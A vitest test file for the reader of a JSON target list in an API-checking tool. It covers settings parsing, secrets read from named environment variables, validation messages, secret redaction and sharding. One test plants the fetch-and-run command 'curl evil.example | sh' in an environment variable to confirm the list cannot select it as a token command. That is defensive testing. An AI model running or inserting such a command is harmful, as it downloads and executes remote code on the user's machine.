import { describe, expect, test } from 'vitest';
import { readTargets, type TargetList } from '../../../bin/targets/read-targets.js';
import { SettingsError } from '../../../helpers/settings/read-settings.js';
import { sourcesOf, type Environment, type Files } from '../../settings/setting-sources.js';

interface Given {
  readonly environment?: Environment;
  readonly files?: Files;
  readonly flags?: Readonly<Record<string, unknown>>;
  readonly shard?: { readonly index: number; readonly count: number };
}

function reading(list: unknown, { environment = {}, files = {}, flags = {}, shard }: Given = {}): TargetList {
  return readTargets({
    text: typeof list === 'string' ? list : JSON.stringify(list),
    path: 'targets.json',
    shard: shard ?? { index: 1, count: 1 },
    values: flags,
    sources: sourcesOf(environment, files),
  });
}

function problemsOf(list: unknown, given?: Given): readonly string[] {
  try {
    reading(list, given);

    return [];
  } catch (error) {
    if (error instanceof SettingsError) return error.problems;
    throw error;
  }
}

const SPRAY_BASE_URL = 'http://127.0.0.1:8080';
const aTarget = (settings: object = {}, name = 'acme') => ({ name, settings: { SPRAY_BASE_URL, ...settings } });
const settingsOf = (settings: object, given?: Given) => reading([aTarget(settings)], given).targets[0]?.settings;

describe('the settings of a target', () => {
  test('are those of its entry, as text or as JSON', () => {
    const text = `[{ "name": "acme", "settings": { "SPRAY_BASE_URL": "${SPRAY_BASE_URL}", "SPRAY_TIMEOUT_MS": 500,
      "SPRAY_READ_ONLY": true, "SPRAY_SESSION": { "id": 9007199254740993 }, "SPRAY_CROP": "{\\"id\\": 1}",
      "SPRAY_ONLY": ["create-order", "get-order"], "SPRAY_EXCLUDE": "get-order", "SPRAY_CONFIRM_ORDER_ID": 9007199254740993,
      "SPRAY_WAIVERS": [{ "requirement": "create-order/answers-200", "reason": "known", "expires": "2026-12-31" }] } }]`;

    expect(reading(text).targets[0]).toMatchObject({
      name: 'acme',
      settings: {
        baseUrl: SPRAY_BASE_URL,
        timeoutMs: 500,
        readOnly: true,
        session: { id: 9007199254740993n },
        crop: { id: 1 },
        only: ['create-order', 'get-order'],
        exclude: ['get-order'],
        confirmOrderId: '9007199254740993',
        waivers: [{ requirement: 'create-order/answers-200' }],
        reportsDir: 'reports/acme',
      },
    });
  });

  test('get a secret from the variable that they name, in the environment or else in the env file', () => {
    const settings = {
      SPRAY_FARMER_TOKEN: 'ACME_FARMER',
      SPRAY_SPRAYER_TOKEN: 'acme_sprayer',
      SPRAY_ADMIN_TOKEN: 'BOTH',
    };
    const environment = { ACME_FARMER: 'farmer-secret', BOTH: 'of-the-environment' };
    const files = { '.env': 'acme_sprayer=sprayer-secret\nBOTH=of-the-file\nSPRAY_NOBODYS_SETTING=x\n' };

    expect(settingsOf(settings, { environment, files })?.credentials).toMatchObject({
      farmer: { authorization: 'Bearer farmer-secret' },
      sprayer: { authorization: 'Bearer sprayer-secret' },
      admin: { authorization: 'Bearer of-the-environment' },
      receptionist: null,
    });
  });

  test('use nothing else from the environment or the env file, and a notice says so', () => {
    const environment = {
      SPRAY_BASE_URL: 'http://127.0.0.1:9',
      SPRAY_FARMER_TOKEN: 'of-another',
      SPRAY_SPRYER_TOKEN: 'a slip',
      SPRAY_RECEPTIONIST_TOKEN: 'named',
      SPRAY_REPORTS_DIR: 'elsewhere',
    };
    const files = { '.env': 'SPRAY_READ_ONLY=true\n' };
    const read = reading([aTarget({ SPRAY_ADMIN_TOKEN: 'SPRAY_RECEPTIONIST_TOKEN' })], { environment, files });
    const { settings } = read.targets[0] ?? {};

    expect(settings).toMatchObject({ baseUrl: SPRAY_BASE_URL, readOnly: false, reportsDir: 'elsewhere/acme' });
    expect(settings?.credentials).toMatchObject({
      farmer: null,
      receptionist: null,
      admin: { authorization: 'Bearer named' },
    });
    expect(read.reportsDir).toBe('elsewhere');
    expect(read.notices).toEqual([
      'SPRAY_BASE_URL, SPRAY_FARMER_TOKEN, SPRAY_READ_ONLY: ignored: a target in a list gets its settings from its entry',
    ]);
  });

  test('are overridden by flags', () => {
    const flags = { seed: '7', 'read-only': true, 'reports-dir': 'there' };

    expect(settingsOf({ SPRAY_SEED: 1 }, { flags })).toMatchObject({
      seed: 7,
      readOnly: true,
      reportsDir: 'there/acme',
    });
  });

  test('keep the proxies of the environment', () => {
    expect(settingsOf({}, { environment: { HTTP_PROXY: 'http://proxy.example' } })?.proxies.http?.text).toBe(
      'http://proxy.example',
    );
  });
});

describe('a command that prints a token', () => {
  const SPRAY_FARMER_TOKEN_COMMAND = 'ACME_FARMER_TOKEN_COMMAND';

  test('is named by a variable whose name says that it is one', () => {
    const environment = { ACME_FARMER_TOKEN_COMMAND: 'echo abc' };

    expect(settingsOf({ SPRAY_FARMER_TOKEN_COMMAND }, { environment })?.tokenCommands).toEqual({ farmer: 'echo abc' });
  });

  test.each(['echo abc', 'GITHUB_HEAD_REF', 'PATH'])('is never chosen by the list: %s', (command) => {
    const environment = { GITHUB_HEAD_REF: 'curl evil.example | sh' };

    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN_COMMAND: command })], { environment })).toEqual([
      'acme: SPRAY_FARMER_TOKEN_COMMAND: expected the name of an environment variable that ends with _TOKEN_COMMAND and contains the command, got a value that is not such a name',
    ]);
  });
});

test('a target may be the embedded reference, and settings of a service are then ignored', () => {
  const reference = { SPRAY_BASE_URL: 'reference' };

  expect(settingsOf(reference)?.baseUrl).toBeNull();
  const { targets, notices } = reading([aTarget({ ...reference, SPRAY_CONFIRM_ORDER_ID: 7 })]);

  expect(targets[0]?.settings.confirmOrderId).toBeNull();
  expect(notices).toContain(
    'SPRAY_CONFIRM_ORDER_ID describes a service and is ignored: the embedded reference is judged',
  );
});

describe('a list is rejected', () => {
  test.for([
    ['{', 'targets.json: expected a JSON array of targets, got text that is not JSON, at line 1, column 2'],
    [
      '[\n  {"name": "acme",\n   canary}]',
      'targets.json: expected a JSON array of targets, got text that is not JSON, at line 3, column 4',
    ],
    ['{}', 'targets.json: expected a JSON array of targets, got an object'],
    ['"x"', 'targets.json: expected a JSON array of targets, got a string'],
    ['[]', 'targets.json: expected at least one target, got an empty array'],
    ['[7]', 'entry 1: expected an object with a name and settings, got a number'],
    [
      `[{"name":"a","settings":{"SPRAY_BASE_URL":"${SPRAY_BASE_URL}","SPRAY_BASE_URL":"${SPRAY_BASE_URL}"}}]`,
      'targets.json: expected a JSON array of targets, got text that has the member "/0/settings/SPRAY_BASE_URL" twice',
    ],
  ] as const)('for its text: %s', ([text, problem]) => expect(problemsOf(text)).toEqual([problem]));

  test('for problems in any of its entries, all at once', () => {
    const list = [
      { name: 'one', settings: {} },
      { settings: { SPRAY_BASE_URL, SPRAY_PAGEABLE: 'flatt' }, url: 1 },
      { name: 'three', settings: 'x' },
      aTarget({ SPRAY_REPORTS_DIR: 'x', SPRAY_ENV_FILE: 'y' }, 'four'),
      aTarget({ SPRAY_BASE_ULR: 'x', farmerToken: 'y', NULLS: 'z', unheard: 1 }, 'five'),
      aTarget({ SPRAY_SESSION: [1], SPRAY_TIMEOUT_MS: null, SPRAY_ONLY: { a: 1 }, SPRAY_NULLS: 7 }, 'six'),
      aTarget({}, 'ONE'),
    ];

    expect(problemsOf(list)).toEqual([
      'targets.json: expected names that differ in more than upper and lower case, got "ONE" twice',
      'one: SPRAY_BASE_URL: expected the address of the target, or the word reference, got none',
      'entry 2: expected name to be a non-empty string, got nothing',
      'entry 2: expected only name and settings, got "url"',
      'entry 2: SPRAY_PAGEABLE: expected one of auto, flat, dotted, bracket, json, got "flatt"',
      'three: expected settings to be an object, got a string',
      'four: SPRAY_REPORTS_DIR: belongs next to --targets, as the flag --reports-dir, not in an entry',
      'four: SPRAY_ENV_FILE: belongs next to --targets, as the flag --dotenv, not in an entry',
      'five: unknown setting: "SPRAY_BASE_ULR"; did you mean SPRAY_BASE_URL?',
      'five: unknown setting: "farmerToken"; did you mean SPRAY_FARMER_TOKEN?',
      'five: unknown setting: "NULLS"; did you mean SPRAY_NULLS?',
      'five: unknown setting: "unheard"; expected a name such as SPRAY_BASE_URL',
      'six: SPRAY_SESSION: expected a JSON object, got an array',
      'six: SPRAY_TIMEOUT_MS: expected a whole number from 1 to 600000, got null',
      'six: SPRAY_ONLY: expected operations or requirement ids, separated by commas, got an object',
      'six: SPRAY_NULLS: expected one of reject, absent, got "7"',
    ]);
  });

  test('for a problem with a flag or with the environment, which is reported once', () => {
    const far = { SPRAY_BASE_URL: 'http://spray.example' }; // only those are asked through a proxy
    const list = [
      aTarget(far, 'one'),
      aTarget({ ...far, SPRAY_EXCLUDE: 'create-order' }, 'two'),
      aTarget(far, 'three'),
    ];
    const flags = { seed: 'x', only: 'create-order', 'reports-dir': ' ' };

    expect(problemsOf(list, { flags, environment: { HTTP_PROXY: 'ftp://x' } })).toEqual([
      '--reports-dir: set but empty; remove it or give it a value (the path of a folder)',
      '--seed: expected a whole number from 0 to 4294967295, got "x"',
      'HTTP_PROXY: expected the address of an http or https proxy, got "ftp://x"',
      'two: SPRAY_ONLY and SPRAY_EXCLUDE: expected at least one requirement to judge, got none',
    ]);
  });

  test('if a flag is about one target', () => {
    const flags = { 'base-url': 'http://127.0.0.1:1', 'farmer-token': 'canary-secret', 'signing-key': 'canary-key' };

    expect(problemsOf([aTarget()], { flags })).toEqual([
      '--base-url: belongs in the entries of targets.json, not next to --targets',
      '--farmer-token: belongs in the entries of targets.json, not next to --targets',
      '--signing-key: belongs in the entries of targets.json, not next to --targets',
    ]);
  });

  test('if the env file cannot be read', () => {
    expect(problemsOf([aTarget()], { flags: { dotenv: 'nowhere.env' } })).toEqual([
      '--dotenv: expected the path of an env file, got "nowhere.env", which does not exist',
    ]);
  });
});

describe('a secret is never shown', () => {
  const canary = /canary/i;

  test.for([
    'Bearer canary-secret',
    'canary-secret',
    'canarysecret0123',
    'CANARYSECRET0123',
    'Canary_Secret',
    ' ',
    '7CANARY',
  ])('if it is written in place of a name: %s', (value) => {
    const problems = problemsOf([aTarget({ SPRAY_FARMER_TOKEN: value })]);

    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^acme: SPRAY_FARMER_TOKEN: expected the name of the environment variable/);
    expect(problems.join()).not.toMatch(canary);
  });

  test.for([{ authorization: 'canary' }, ['canary'], 7, true, null])('if it is not a text: %j', (value) => {
    const problems = problemsOf([aTarget({ SPRAY_FARMER_HEADERS: value })]);

    expect(problems).toEqual([
      expect.stringMatching(/^acme: SPRAY_FARMER_HEADERS: expected the name of the environment variable/),
    ]);
    expect(problems.join()).not.toMatch(canary);
  });

  test('if the variable contains a value that cannot be sent', () => {
    const problems = problemsOf([aTarget({ SPRAY_FARMER_TOKEN: 'ACME_TOKEN' })], {
      environment: { ACME_TOKEN: 'canary with blanks' },
    });

    expect(problems).toEqual([expect.stringMatching(/^acme: SPRAY_FARMER_TOKEN: expected a token without whitespace/)]);
    expect(problems.join()).not.toMatch(canary);
  });

  test('if its variable is missing or empty: the name of the variable may be the secret', () => {
    const words =
      'acme: SPRAY_FARMER_TOKEN: expected the name of the environment variable that contains the secret, got the name of one that is empty or not set';

    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN: 'ACME_TOKEN' })])).toEqual([words]);
    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN: 'ACME_TOKEN' })], { environment: { ACME_TOKEN: '' } })).toEqual([
      words,
    ]);
  });
});

describe('a part of a list', () => {
  const list = ['one', 'two', 'three'].map((name) =>
    aTarget({ SPRAY_FARMER_TOKEN: `TOKEN_${name.toUpperCase()}` }, name),
  );

  test('needs the secrets of its own targets only', () => {
    const given = { shard: { index: 2, count: 2 }, environment: { TOKEN_THREE: 'secret-3' } };
    const read = reading(list, given);

    expect(read.targets.map(({ name }) => name)).toEqual(['three']);
    expect(read.names).toEqual(['one', 'two', 'three']);
    expect(problemsOf(list, { ...given, shard: { index: 1, count: 2 } })).toHaveLength(2);
  });

  test('is rejected for a malformed entry of another part', () => {
    const wrong = [...list.slice(0, 2), { name: 'three', settings: { SPRAY_BASE_URL, SPRAY_ADMIN_TOKEN: 'no name' } }];
    const environment = { TOKEN_ONE: 'secret-1', TOKEN_TWO: 'secret-2' };

    expect(problemsOf(wrong, { environment, shard: { index: 1, count: 2 } })).toEqual([
      expect.stringMatching(/^three: SPRAY_ADMIN_TOKEN: expected the name of the environment variable/),
    ]);
  });
});
